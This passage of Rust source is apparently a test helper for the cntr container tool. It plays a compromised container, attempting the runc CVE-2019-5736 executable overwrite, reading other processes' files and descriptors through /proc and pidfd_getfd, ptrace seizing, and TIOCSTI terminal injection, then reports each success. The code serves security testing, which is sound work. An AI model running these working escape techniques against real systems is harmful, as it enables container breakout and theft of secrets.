//! hostile: what a compromised container runs against cntr in the tests.
//! Copied into a container's root and started there; each attack prints
//! one line per success, so an empty output means the attack got nothing.
//!
//! Usage:
//!   hostile exe-grab SECS     hold /proc/PID/exe of every other process and
//!                             try, until SECS pass, to write through it
//!   hostile door-as ROLE SECS [PATH]...
//!                             take on ROLE (docker, setuid, user, userns,
//!                             owner, asis: see `Role`), say `# ready`, then
//!                             attack every other process until SECS pass
//!                             or /run/hostile-stop exists: each PATH
//!                             through /proc/P/root, its name through
//!                             /proc/P/cwd, /proc/P/fd/*, pidfd_getfd,
//!                             PTRACE_SEIZE; one line `VERB P COMM: ...`
//!                             per success, and `#` lines for what it did
//!                             (`# ready`, `# pawn P`, `# tried P COMM`)
//!   hostile as UID PROG [ARG]...
//!                             uid, gid and groups UID, no capabilities,
//!                             exec PROG (a worker beside a root init)
//!   hostile nest PROG [ARG]...
//!                             as `unshare -r`, with an empty bounding set,
//!                             exec PROG (a process in a nested user
//!                             namespace)
//!   hostile hold DIR [FILE]... -- PROG [ARG]...
//!                             open each FILE on an inheritable fd, enter
//!                             DIR, exec PROG (an attach session's command
//!                             holding secrets)
//!   hostile decoy PID CREDS DIR [FILE]... -- PROG [ARG]...
//!                             on the host: what `hold` does, in PID's PID
//!                             namespace, with CREDS `like=PID` or
//!                             `[userns=PID|new,]uid=N,gid=N,caps=HEX|all`
//!                             (a session whose credentials are chosen
//!                             otherwise)
//!   hostile tiocsti TEXT      push TEXT into the terminal on stdin with
//!                             TIOCSTI, and ask TIOCLINUX to paste
//!   hostile spin PATH         write PATH and sleep forever (a process for
//!                             the tests to watch)

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    // Run as `door-sess SECS` (a link named so, in a tools tree that has
    // no sleep of the host's): sleep, under that name.
    if args[0].rsplit('/').next() == Some("door-sess") {
        let s = args.get(1).and_then(|s| s.parse().ok()).unwrap_or(0);
        std::thread::sleep(Duration::from_secs(s));
        return;
    }
    let secs = || -> Duration {
        Duration::from_secs(args.get(2).and_then(|s| s.parse().ok()).unwrap_or(5))
    };
    match args.get(1).map(String::as_str) {
        Some("exe-grab") => exe_grab(secs()),
        Some("door-as") => finish(door_as(&args[2..])),
        Some("as") => finish(run_as(&args[2..]).map(|n| match n {})),
        Some("nest") => finish(nest(&args[2..]).map(|n| match n {})),
        Some("hold") => finish(hold_then_exec(&args[2..]).map(|n| match n {})),
        Some("decoy") => finish(decoy(&args[2..])),
        Some("tiocsti") => tiocsti(args.get(2).map(String::as_str).unwrap_or("id\n")),
        Some("fifo-wait") => fifo_wait(
            args.get(2).expect("PATH"),
            Duration::from_secs(args.get(3).and_then(|s| s.parse().ok()).unwrap_or(5)),
        ),
        Some("spin") => {
            let _ = fs::write(args.get(2).expect("PATH"), std::process::id().to_string());
            loop {
                std::thread::sleep(Duration::from_secs(3600));
            }
        }
        _ => {
            eprintln!(
                "usage: hostile exe-grab SECS | door-as ROLE SECS [PATH]... \
                 | as UID PROG... | nest PROG... | hold DIR [FILE]... -- PROG... \
                 | decoy PID CREDS DIR [FILE]... -- PROG... | tiocsti TEXT | spin PATH"
            );
            std::process::exit(2);
        }
    }
}

/// Exits 1 with one line on stderr if `r` failed.
fn finish(r: Result<(), String>) {
    if let Err(e) = r {
        eprintln!("hostile: {e}");
        std::process::exit(1);
    }
}

/// The PIDs in this container's /proc but ours.
fn others() -> Vec<i32> {
    let me = std::process::id() as i32;
    let Ok(dir) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .filter(|&p| p != me)
        .collect()
}

fn raw(r: usize) -> Result<usize, i32> {
    if r > -4096isize as usize {
        Err(-(r as isize) as i32)
    } else {
        Ok(r)
    }
}

/// The runc CVE-2019-5736 attack: open every process's executable (which
/// needs no write access while it runs), then write through the held fd
/// once the last process running it has exited.
fn exe_grab(time: Duration) {
    let end = Instant::now() + time;
    let mut held: BTreeMap<i32, (OwnedFd, String)> = BTreeMap::new();
    let mut out = std::io::stdout();
    while Instant::now() < end {
        for pid in others() {
            if held.contains_key(&pid) {
                continue;
            }
            let path = format!("/proc/{pid}/exe\0");
            // SAFETY: a NUL-terminated path; O_PATH|O_CLOEXEC.
            let r = unsafe {
                sc::syscall!(
                    OPENAT,
                    -100isize as usize,
                    path.as_ptr() as usize,
                    0o10000000 | 0o2000000,
                    0
                )
            };
            if let Ok(fd) = raw(r) {
                let name = fs::read_link(format!("/proc/{pid}/exe"))
                    .map(|p| p.display().to_string())
                    .unwrap_or_default();
                // SAFETY: the kernel just returned this fd.
                let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
                undo_read_only(pid, &fd, &name);
                held.insert(pid, (fd, name));
            }
        }
        for (pid, (fd, name)) in &held {
            let through = format!("/proc/self/fd/{}", fd.as_raw_fd());
            if let Ok(mut f) = fs::OpenOptions::new().append(true).open(&through) {
                if f.write_all(b"hostile").is_ok() {
                    let _ = writeln!(out, "wrote the executable of {pid}: {name}");
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}

/// The command name of `pid`, for reports.
fn comm(pid: i32) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm"))
        .map(|c| c.trim().to_string())
        .unwrap_or_default()
}

/// Tries to make the mount of a held executable writable: a child makes a
/// user and mount namespace of its own (where it holds CAP_SYS_ADMIN) and
/// clears MOUNT_ATTR_RDONLY on that mount, and on a clone of it.
fn undo_read_only(pid: i32, fd: &OwnedFd, name: &str) {
    const CLONE_NEWUSER: usize = 0x1000_0000;
    const CLONE_NEWNS: usize = 0x0002_0000;
    const AT_EMPTY_PATH: usize = 0x1000;
    const OPEN_TREE_CLONE: usize = 1;
    const SIGCHLD: usize = 17;
    let _ = std::io::stdout().flush();
    // SAFETY: a plain fork of this single-threaded process; the child only
    // makes system calls and exits.
    let child = unsafe { sc::syscall!(CLONE, SIGCHLD, 0, 0, 0, 0) };
    if child != 0 {
        if raw(child).is_ok() {
            let mut status = 0i32;
            // SAFETY: waits for our own child.
            unsafe { sc::syscall!(WAIT4, child, &mut status as *mut i32 as usize, 0, 0) };
        }
        return;
    }
    let clear = |mnt: usize| -> bool {
        // struct mount_attr { attr_set, attr_clr = RDONLY, propagation, userns_fd }
        let attr: [u64; 4] = [0, 1, 0, 0];
        // SAFETY: an empty path and a valid 32-byte mount_attr.
        raw(unsafe {
            sc::syscall!(
                MOUNT_SETATTR,
                mnt,
                c"".as_ptr() as usize,
                AT_EMPTY_PATH,
                attr.as_ptr() as usize,
                32
            )
        })
        .is_ok()
    };
    // SAFETY: plain syscalls on integers and an empty path.
    unsafe {
        let unshared = raw(sc::syscall!(UNSHARE, CLONE_NEWUSER | CLONE_NEWNS))
            .err()
            .unwrap_or(0);
        let fd = fd.as_raw_fd() as usize;
        let mut out = std::io::stdout();
        if clear(fd) {
            let _ = writeln!(out, "made writable the mount of {pid}: {name}");
        }
        let clone = raw(sc::syscall!(
            OPEN_TREE,
            fd,
            c"".as_ptr() as usize,
            OPEN_TREE_CLONE | AT_EMPTY_PATH
        ));
        if let Ok(copy) = clone {
            if clear(copy) {
                let _ = writeln!(out, "made a writable clone of the mount of {pid}: {name}");
            }
        }
        let _ = writeln!(
            out,
            "tried {pid} (unshare errno {unshared}, clone errno {}): {name}",
            clone.err().unwrap_or(0)
        );
        let _ = out.flush();
        sc::syscall!(EXIT_GROUP, 0);
    }
}

/// Pushes `text` into the terminal's input queue: what the outer shell
/// would read next, if this terminal were the user's.
fn tiocsti(text: &str) {
    const TIOCSTI: usize = 0x5412;
    const TIOCLINUX: usize = 0x541C;
    let mut pushed = 0;
    let mut err = 0;
    for b in text.bytes() {
        // SAFETY: the argument points at one byte.
        match raw(unsafe { sc::syscall!(IOCTL, 0, TIOCSTI, &b as *const u8 as usize) }) {
            Ok(_) => pushed += 1,
            Err(e) => {
                err = e;
                break;
            }
        }
    }
    println!("tiocsti pushed {pushed} errno {err}");
    // TIOCLINUX subcode 3 pastes the console selection; only a virtual
    // console knows it.
    let sub = [3u8];
    // SAFETY: the argument points at one byte.
    let r = raw(unsafe { sc::syscall!(IOCTL, 0, TIOCLINUX, sub.as_ptr() as usize) });
    println!("tioclinux {}", if r.is_ok() { "pasted" } else { "refused" });
    let _ = std::io::stdout().flush();
}

/// `hostile fifo-wait PATH SECS`: blocks in open(PATH, O_WRONLY), as a
/// writer waiting for a FIFO's first reader does, after saying "waiting",
/// and says "fifo opened" if that open returns within SECS: whoever opened
/// the FIFO for reading meanwhile, even non-blocking and only for an
/// instant, woke it. Creates nothing.
fn fifo_wait(path: &str, time: Duration) {
    let mut out = std::io::stdout();
    let _ = writeln!(out, "waiting");
    let _ = out.flush();
    let path = path.to_string();
    std::thread::spawn(move || {
        if fs::OpenOptions::new().write(true).open(&path).is_ok() {
            let mut out = std::io::stdout();
            let _ = writeln!(out, "fifo opened");
            let _ = out.flush();
            std::process::exit(0);
        }
    });
    std::thread::sleep(time);
}

// ------------------------------------------------------------- the door

/// Docker's default capability set (examples/ct.rs, `DOCKER_CAPS`).
const DOCKER_CAPS: u64 = 0xa804_25fb;
/// CAP_SETGID and CAP_SETUID: what it takes to become any uid and gid.
const SETID_CAPS: u64 = 1 << 6 | 1 << 7;
/// CAP_SETPCAP: what it takes to drop from the bounding set.
const CAP_SETPCAP: u64 = 1 << 8;
/// `door-as` stops early once this file exists (the test creates it in
/// the container's root when it has seen enough).
const STOP_FILE: &str = "/run/hostile-stop";

/// The credentials an attacker of `door-as` takes on before it attacks.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Role {
    /// Root with Docker's default capabilities (dropped to them).
    Docker,
    /// Root with CAP_SETUID and CAP_SETGID only, which takes on each
    /// victim's uid and gid (in a child per uid) before attacking it.
    Setuid,
    /// uid and gid 1000, no capabilities.
    User,
    /// Root with every capability in a user namespace of its own.
    Userns,
    /// Owner of a user namespace it made (a child lives there), from the
    /// parent side, without any capability of its own.
    Owner,
    /// The credentials it was started with.
    Asis,
}

impl Role {
    fn parse(name: &str) -> Option<Role> {
        Some(match name {
            "docker" => Role::Docker,
            "setuid" => Role::Setuid,
            "user" => Role::User,
            "userns" => Role::Userns,
            "owner" => Role::Owner,
            "asis" => Role::Asis,
            _ => return None,
        })
    }
}

/// What `door-as` looks for: each PATH below /proc/P/root, and each
/// PATH's file name below /proc/P/cwd.
struct Secrets {
    paths: Vec<String>,
    names: Vec<String>,
}

/// Each line once, flushed at once (stdout is a file the test reads).
struct Report {
    said: std::collections::BTreeSet<String>,
}

impl Report {
    fn line(&mut self, line: String) {
        if !self.said.contains(&line) {
            let mut out = std::io::stdout();
            let _ = out.write_all(format!("{line}\n").as_bytes());
            let _ = out.flush();
            self.said.insert(line);
        }
    }
}

/// `hostile door-as ROLE SECS [PATH]...`: takes on ROLE, prints `# ready`,
/// then attacks every other process until SECS pass or [`STOP_FILE`]
/// exists.
fn door_as(args: &[String]) -> Result<(), String> {
    let [role, secs, paths @ ..] = args else {
        return Err("door-as: ROLE SECS [PATH]...".into());
    };
    let secs: u64 = secs.parse().map_err(|_| format!("bad SECS {secs}"))?;
    let end = Instant::now() + Duration::from_secs(secs);
    let r = Role::parse(role).ok_or_else(|| format!("unknown role {role}"))?;
    if matches!(r, Role::Docker | Role::Setuid) && !rustix::process::geteuid().is_root() {
        return Err(format!("role {role} needs root"));
    }
    let mut report = Report {
        said: Default::default(),
    };
    let mut pawn = None;
    match r {
        Role::Docker => limit_caps(DOCKER_CAPS)?,
        Role::Setuid => limit_caps(SETID_CAPS)?,
        Role::User => become_user(1000)?,
        Role::Userns => own_userns()?,
        Role::Owner => {
            let p = spawn_pawn()?;
            pawn = Some(p);
            report.line(format!("# pawn {p}"));
            limit_caps(0)?;
        }
        Role::Asis => {}
    }
    let me = std::process::id();
    report.line(format!("# ready {role} pid {me} {}", own_creds()));
    let secrets = Secrets {
        paths: paths.to_vec(),
        names: paths
            .iter()
            .filter_map(|p| Some(p.rsplit('/').next()?.to_string()))
            .collect(),
    };
    while Instant::now() < end && !std::path::Path::new(STOP_FILE).exists() {
        let victims = others();
        if r == Role::Setuid {
            let mut by_ids: BTreeMap<(u32, u32), Vec<i32>> = BTreeMap::new();
            for &pid in &victims {
                if let Some(ids) = ids_of(pid) {
                    by_ids.entry(ids).or_default().push(pid);
                }
            }
            for (ids, pids) in by_ids {
                round(Some(ids), &pids, &secrets, &mut report);
            }
        } else {
            round(None, &victims, &secrets, &mut report);
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    if let Some(p) = pawn {
        // SAFETY: plain syscalls on our own child.
        unsafe {
            sc::syscall!(KILL, p as usize, 9);
            sc::syscall!(WAIT4, p as usize, 0, 0, 0);
        }
    }
    Ok(())
}

/// One line about ourselves: uid, gid, effective set, user namespace.
fn own_creds() -> String {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |k: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(k)?.strip_prefix(':'))
            .and_then(|v| v.split_whitespace().next())
            .unwrap_or("?")
            .to_string()
    };
    let ns = fs::read_link("/proc/self/ns/user")
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    format!(
        "uid {} gid {} eff {} {ns}",
        field("Uid"),
        field("Gid"),
        field("CapEff")
    )
}

/// Every way in, on one victim; one line per success, then `# tried`:
/// 1. `/proc/P/root`, and each secret below it;
/// 2. `/proc/P/cwd`, and each secret's name below it;
/// 3. every `/proc/P/fd/N` (those listed, and 0-63), read when regular;
/// 4. `pidfd_getfd` on fds 0-63, read when regular;
/// 5. `PTRACE_SEIZE` (see [`seize`]).
///
/// Every `/proc` link is opened `O_PATH` first: that open is where the
/// kernel checks ptrace access, and nothing but a regular file is ever
/// opened for reading (opening a device is an action; reading a pipe
/// steals its data).
fn attack(pid: i32, s: &Secrets, emit: &mut dyn FnMut(String)) {
    let before = comm(pid);
    if before.is_empty() {
        return;
    }
    // Named as it was before and after the access: `cntr>hostile` is a
    // process that was cntr when the attack began and had exec'd its
    // program by the time it succeeded.
    let who = || match comm(pid) {
        now if now == before => format!("{pid} {before}"),
        now => format!("{pid} {before}>{now}"),
    };
    let base = format!("/proc/{pid}");
    if open_path(&format!("{base}/root")).is_some() {
        emit(format!("root {}: opened", who()));
    }
    for p in &s.paths {
        if let Some(text) = open_path(&format!("{base}/root{p}")).and_then(|f| read_regular(&f)) {
            emit(format!("root {}: {p} = {text}", who()));
        }
    }
    if open_path(&format!("{base}/cwd")).is_some() {
        emit(format!("cwd {}: opened", who()));
    }
    for n in &s.names {
        if let Some(text) = open_path(&format!("{base}/cwd/{n}")).and_then(|f| read_regular(&f)) {
            emit(format!("cwd {}: {n} = {text}", who()));
        }
    }
    let mut fds: std::collections::BTreeSet<u32> = (0..64).collect();
    if let Ok(dir) = fs::read_dir(format!("{base}/fd")) {
        fds.extend(dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok()));
    }
    for n in fds {
        if let Some(f) = open_path(&format!("{base}/fd/{n}")) {
            emit(format!("fd {}: {n} {}", who(), said(read_regular(&f))));
        }
    }
    // SAFETY: plain syscalls on integers.
    if let Ok(pidfd) = raw(unsafe { sc::syscall!(PIDFD_OPEN, pid as usize, 0) }) {
        // SAFETY: the kernel just returned this fd.
        let pidfd = unsafe { OwnedFd::from_raw_fd(pidfd as i32) };
        for n in 0..64usize {
            // SAFETY: as above.
            let r = unsafe { sc::syscall!(PIDFD_GETFD, pidfd.as_raw_fd() as usize, n, 0) };
            if let Ok(fd) = raw(r) {
                // SAFETY: as above.
                let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
                emit(format!("getfd {}: {n} {}", who(), said(pread_regular(&fd))));
            }
        }
    }
    if seize(pid) {
        emit(format!("seized {}", who()));
    }
    emit(format!("# tried {}", who()));
}

/// `= TEXT` for what was read, `opened` for what was not.
fn said(text: Option<String>) -> String {
    text.map_or("opened".into(), |t| format!("= {t}"))
}

/// `open(PATH, O_PATH)`: follows magic links after the ptrace check.
fn open_path(path: &str) -> Option<OwnedFd> {
    rustix::fs::open(
        path,
        rustix::fs::OFlags::PATH | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()
}

/// The start of a regular file held as `O_PATH`, reopened for reading
/// (with our own permissions), printable.
fn read_regular(f: &OwnedFd) -> Option<String> {
    if !is_regular(f) {
        return None;
    }
    let fd = rustix::fs::open(
        format!("/proc/self/fd/{}", f.as_raw_fd()),
        rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::CLOEXEC | rustix::fs::OFlags::NOCTTY,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    pread_regular(&fd)
}

fn is_regular(f: &OwnedFd) -> bool {
    rustix::fs::fstat(f).is_ok_and(|st| {
        rustix::fs::FileType::from_raw_mode(st.st_mode) == rustix::fs::FileType::RegularFile
    })
}

/// The first bytes of a regular file, from offset 0 (another process's
/// file offset stays where it was), escaped to one line.
fn pread_regular(f: &OwnedFd) -> Option<String> {
    if !is_regular(f) {
        return None;
    }
    let mut buf = [0u8; 64];
    let n = rustix::io::pread(f, &mut buf, 0).ok()?;
    let text: String = buf[..n]
        .trim_ascii_end()
        .iter()
        .map(|&b| match b {
            b' '..=b'~' => (b as char).to_string(),
            _ => format!("\\x{b:02x}"),
        })
        .collect();
    Some(text)
}

/// PTRACE_SEIZE, left in place: the round's child that seized the victim
/// exits at the end of the round, which detaches it. Nothing stops the
/// tracee (no PTRACE_INTERRUPT): one sent a signal meanwhile waits for
/// that exit, never for a tracer that waits itself, so attackers that
/// seize each other cannot deadlock.
fn seize(pid: i32) -> bool {
    const PTRACE_SEIZE: usize = 0x4206;
    // SAFETY: plain syscalls on integers.
    raw(unsafe { sc::syscall!(PTRACE, PTRACE_SEIZE, pid as usize, 0, 0) }).is_ok()
}

/// The effective uid and gid of `pid`, as this process's user namespace
/// sees them.
fn ids_of(pid: i32) -> Option<(u32, u32)> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let id = |k: &str| -> Option<u32> {
        let line = status.lines().find_map(|l| l.strip_prefix(k))?;
        line.split_whitespace().nth(1)?.parse().ok()
    };
    Some((id("Uid:")?, id("Gid:")?))
}

/// One round of attacks on `victims`, in a child (which takes on `ids`,
/// uid and gid, first, for the setuid role): its exit detaches whatever
/// it seized. Its lines come back through a pipe, so that each is said
/// once.
fn round(ids: Option<(u32, u32)>, victims: &[i32], s: &Secrets, report: &mut Report) {
    let Ok((rd, wr)) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC) else {
        return;
    };
    let Ok(child) = fork() else {
        return;
    };
    if child == 0 {
        drop(rd);
        let mut w = fs::File::from(wr);
        let mut say = |l: String| {
            let _ = w.write_all(format!("{l}\n").as_bytes());
        };
        match ids.map_or(Ok(()), |(uid, gid)| take_ids(uid, gid)) {
            Ok(()) => {
                for &pid in victims {
                    attack(pid, s, &mut say);
                }
            }
            Err(e) => say(format!("# unable to take ids {ids:?}: {e}")),
        }
        exit_now(0);
    }
    drop(wr);
    let mut text = String::new();
    let _ = std::io::Read::read_to_string(&mut fs::File::from(rd), &mut text);
    // SAFETY: reaps our own child.
    unsafe { sc::syscall!(WAIT4, child as usize, 0, 0, 0) };
    for l in text.lines() {
        report.line(l.to_string());
    }
}

/// fork(2) of this single-threaded process: 0 in the child.
fn fork() -> Result<i32, i32> {
    let _ = std::io::stdout().flush();
    // SAFETY: no CLONE_VM: the child gets its own copy of memory, and no
    // other thread can hold a lock in it.
    raw(unsafe { sc::syscall!(CLONE, 17, 0, 0, 0, 0) }).map(|p| p as i32)
}

/// exit_group(2) at once: a forked child must not run the parent's exit
/// handlers or flush its buffers a second time.
fn exit_now(code: i32) -> ! {
    // SAFETY: takes no pointers and does not return.
    unsafe { sc::syscall!(EXIT_GROUP, code as usize) };
    std::process::abort()
}

fn errno(e: rustix::io::Errno) -> String {
    std::io::Error::from(e).to_string()
}

/// Keeps `keep` of the bounding, permitted and effective sets (dropping
/// from the bounding set needs CAP_SETPCAP, which an unprivileged process
/// has not; it has nothing to drop either), empties the inheritable and
/// ambient sets.
fn limit_caps(keep: u64) -> Result<(), String> {
    use rustix::thread::{CapabilitySet, CapabilitySets};
    let now = rustix::thread::capabilities(None).map_err(errno)?;
    if now.effective.bits() & CAP_SETPCAP != 0 {
        limit_bounding(keep)?;
    }
    let kept = CapabilitySet::from_bits_retain(now.permitted.bits() & keep);
    rustix::thread::set_capabilities(
        None,
        CapabilitySets {
            effective: kept,
            permitted: kept,
            inheritable: CapabilitySet::empty(),
        },
    )
    .map_err(|e| format!("set capabilities: {}", errno(e)))?;
    rustix::thread::clear_ambient_capability_set().map_err(errno)
}

/// uid, gid and groups `id`, no capabilities (the change of uid from 0
/// clears permitted, effective and ambient; the rest is emptied here).
fn become_user(id: u32) -> Result<(), String> {
    if !rustix::process::geteuid().is_root() && rustix::process::geteuid().as_raw() == id {
        return limit_caps(0);
    }
    let (u, g) = (
        rustix::process::Uid::from_raw(id),
        rustix::process::Gid::from_raw(id),
    );
    // The bounding set first, while CAP_SETPCAP is still there: a
    // process of uid 1000 that can gain nothing back, not even through a
    // set-user-ID binary.
    limit_bounding(0)?;
    rustix::thread::set_thread_groups(&[g]).map_err(|e| format!("set groups: {}", errno(e)))?;
    rustix::thread::set_thread_res_gid(g, g, g).map_err(|e| format!("set gid: {}", errno(e)))?;
    rustix::thread::set_thread_res_uid(u, u, u).map_err(|e| format!("set uid: {}", errno(e)))?;
    limit_caps(0)
}

/// The setuid role's child: uid and gid of its victims, keeping CAP_SETUID
/// and CAP_SETGID (PR_SET_KEEPCAPS keeps them permitted across the change
/// of uid, which clears the effective set; they are raised again).
fn take_ids(uid: u32, gid: u32) -> Result<(), String> {
    let (u, g) = (
        rustix::process::Uid::from_raw(uid),
        rustix::process::Gid::from_raw(gid),
    );
    rustix::thread::set_thread_groups(&[g]).map_err(|e| format!("set groups: {}", errno(e)))?;
    rustix::thread::set_thread_res_gid(g, g, g).map_err(|e| format!("set gid: {}", errno(e)))?;
    rustix::thread::set_keep_capabilities(true).map_err(errno)?;
    rustix::thread::set_thread_res_uid(u, u, u).map_err(|e| format!("set uid: {}", errno(e)))?;
    let mut sets = rustix::thread::capabilities(None).map_err(errno)?;
    sets.effective = sets.permitted;
    rustix::thread::set_capabilities(None, sets).map_err(errno)
}

/// `unshare -r`: a new user namespace where our uid and gid are 0, with
/// every capability there (and none over the namespace we left).
fn own_userns() -> Result<(), String> {
    let (u, g) = (rustix::process::getuid(), rustix::process::getgid());
    // SAFETY: single-threaded.
    unsafe { rustix::thread::unshare_unsafe(rustix::thread::UnshareFlags::NEWUSER) }
        .map_err(|e| format!("create a user namespace: {}", errno(e)))?;
    let maps = [
        ("setgroups", "deny".to_string()),
        ("uid_map", format!("0 {} 1", u.as_raw())),
        ("gid_map", format!("0 {} 1", g.as_raw())),
    ];
    for (file, text) in maps {
        fs::write(format!("/proc/self/{file}"), text)
            .map_err(|e| format!("write /proc/self/{file}: {e}"))?;
    }
    Ok(())
}

/// The owner role's pawn: a child in a user namespace that the caller
/// owns, sleeping until the caller kills it; returns its PID.
fn spawn_pawn() -> Result<i32, String> {
    let (rd, wr) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC).map_err(errno)?;
    let parent = rustix::process::getpid();
    let child = fork().map_err(|e| format!("fork: errno {e}"))?;
    if child == 0 {
        drop(rd);
        // After the unshare: a change of credentials clears the parent
        // death signal.
        let ok = own_userns().is_ok()
            && rustix::process::set_parent_process_death_signal(Some(
                rustix::process::Signal::KILL,
            ))
            .is_ok()
            && rustix::process::getppid() == Some(parent);
        if !ok || rustix::io::write(&wr, b"1").is_err() {
            exit_now(1);
        }
        drop(wr);
        loop {
            std::thread::sleep(Duration::from_secs(3600));
        }
    }
    drop(wr);
    let mut b = [0u8];
    match rustix::io::read(&rd, &mut b) {
        Ok(1) => Ok(child),
        _ => Err("the pawn could not make its user namespace".into()),
    }
}

// ------------------------------------------------ targets, sessions, decoys

/// `hostile as UID PROG [ARG]...`.
fn run_as(args: &[String]) -> Result<std::convert::Infallible, String> {
    let [uid, prog, rest @ ..] = args else {
        return Err("as: UID PROG [ARG]...".into());
    };
    become_user(uid.parse().map_err(|_| format!("bad uid {uid}"))?)?;
    exec(prog, rest)
}

/// `hostile nest PROG [ARG]...`: as `unshare -r`, with an empty bounding
/// set, so that PROG runs as root of the new namespace with no capability.
fn nest(args: &[String]) -> Result<std::convert::Infallible, String> {
    let [prog, rest @ ..] = args else {
        return Err("nest: PROG [ARG]...".into());
    };
    own_userns()?;
    limit_caps(0)?;
    exec(prog, rest)
}

fn exec(prog: &str, args: &[String]) -> Result<std::convert::Infallible, String> {
    use std::os::unix::process::CommandExt;
    let e = std::process::Command::new(prog).args(args).exec();
    Err(format!("execute {prog}: {e}"))
}

/// Opens each of `files` on an inheritable fd (reporting on stderr which
/// it could) and enters `dir`: what a session holds.
fn hold(dir: &str, files: &[String]) {
    for f in files {
        match rustix::fs::open(
            f.as_str(),
            rustix::fs::OFlags::RDONLY,
            rustix::fs::Mode::empty(),
        ) {
            Ok(fd) => {
                eprintln!("hostile: held {f} on fd {}", fd.as_raw_fd());
                std::mem::forget(fd);
            }
            Err(e) => eprintln!("hostile: unable to hold {f}: {}", errno(e)),
        }
    }
    match std::env::set_current_dir(dir) {
        Ok(()) => eprintln!("hostile: in {dir}"),
        Err(e) => eprintln!("hostile: unable to enter {dir}: {e}"),
    }
}

/// Splits `A... -- PROG [ARG]...`.
fn split_prog(args: &[String]) -> Result<(&[String], &[String]), String> {
    let i = args
        .iter()
        .position(|a| a == "--")
        .ok_or("missing -- PROG")?;
    match &args[i + 1..] {
        [] => Err("missing PROG".into()),
        prog => Ok((&args[..i], prog)),
    }
}

/// `hostile hold DIR [FILE]... -- PROG [ARG]...`.
fn hold_then_exec(args: &[String]) -> Result<std::convert::Infallible, String> {
    let (head, prog) = split_prog(args)?;
    let [dir, files @ ..] = head else {
        return Err("hold: DIR [FILE]... -- PROG [ARG]...".into());
    };
    hold(dir, files);
    exec(&prog[0], &prog[1..])
}

/// A decoy's user namespace.
enum DecoyNs {
    /// The host's (the caller's).
    Host,
    /// That of this PID.
    Of(String),
    /// A new one owned by root mapping every id to itself.
    New,
}

/// A decoy's credentials: `like=PID` (PID's user namespace, uid, gid and
/// permitted set), or `[userns=PID|new,]uid=N,gid=N,caps=HEX|all`.
struct DecoyCreds {
    ns: DecoyNs,
    like: Option<String>,
    uid: u32,
    gid: u32,
    /// None: every capability held once in the namespace.
    caps: Option<u64>,
}

fn parse_creds(spec: &str) -> Result<DecoyCreds, String> {
    let mut c = DecoyCreds {
        ns: DecoyNs::Host,
        like: None,
        uid: 0,
        gid: 0,
        caps: Some(0),
    };
    for kv in spec.split(',') {
        let (k, v) = kv.split_once('=').ok_or(format!("bad {kv}"))?;
        let num = || v.parse::<u32>().map_err(|_| format!("bad {kv}"));
        match k {
            "like" => {
                c.ns = DecoyNs::Of(v.into());
                c.like = Some(v.into());
            }
            "userns" if v == "new" => c.ns = DecoyNs::New,
            "userns" => c.ns = DecoyNs::Of(v.into()),
            "uid" => c.uid = num()?,
            "gid" => c.gid = num()?,
            "caps" if v == "all" => c.caps = None,
            "caps" => c.caps = Some(u64::from_str_radix(v, 16).map_err(|_| format!("bad {kv}"))?),
            _ => return Err(format!("bad {kv}")),
        }
    }
    Ok(c)
}

/// `hostile decoy PID CREDS DIR [FILE]... -- PROG [ARG]...`, run on the
/// host as root: something that looks, from the container, like an attach
/// session with other credentials.
/// 1. join PID's PID namespace, and fork into it;
/// 2. the child opens FILEs and enters DIR (as the host's root);
/// 3. it moves to its user namespace: joins PID's, or unshares a new one
///    whose maps the parent writes (they need CAP_SETUID over the parent
///    namespace, which the child gave up);
/// 4. it takes on uid, gid, groups and capabilities, and execs PROG (a
///    host program: after the exec it is dumpable again, as a session's
///    command is);
/// 5. the parent waits for it and exits with its status; the child dies
///    with the parent.
fn decoy(args: &[String]) -> Result<(), String> {
    let (head, prog) = split_prog(args)?;
    let [pid, spec, dir, files @ ..] = head else {
        return Err("decoy: PID CREDS DIR [FILE]... -- PROG [ARG]...".into());
    };
    let creds = parse_creds(spec)?;
    let open_ns = |p: &str, kind: &str| {
        rustix::fs::open(
            format!("/proc/{p}/ns/{kind}"),
            rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::CLOEXEC,
            rustix::fs::Mode::empty(),
        )
        .map_err(|e| format!("open /proc/{p}/ns/{kind}: {}", errno(e)))
    };
    let pidns = open_ns(pid, "pid")?;
    let userns = match &creds.ns {
        DecoyNs::Of(p) => Some(open_ns(p, "user")?),
        _ => None,
    };
    rustix::thread::move_into_link_name_space(
        pidns.as_fd(),
        Some(rustix::thread::LinkNameSpaceType::ProcessID),
    )
    .map_err(|e| format!("join the PID namespace of {pid}: {}", errno(e)))?;
    let (ready_r, ready_w) =
        rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC).map_err(errno)?;
    let (go_r, go_w) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC).map_err(errno)?;
    let child = fork().map_err(|e| format!("fork: errno {e}"))?;
    if child == 0 {
        drop((ready_r, go_w));
        let err = decoy_child(&creds, userns, dir, files, prog, ready_w, go_r)
            .err()
            .unwrap_or_default();
        eprintln!("hostile: decoy: {err}");
        exit_now(1);
    }
    drop((ready_w, go_r));
    if matches!(creds.ns, DecoyNs::New) {
        let mut b = [0u8];
        if rustix::io::read(&ready_r, &mut b) == Ok(1) {
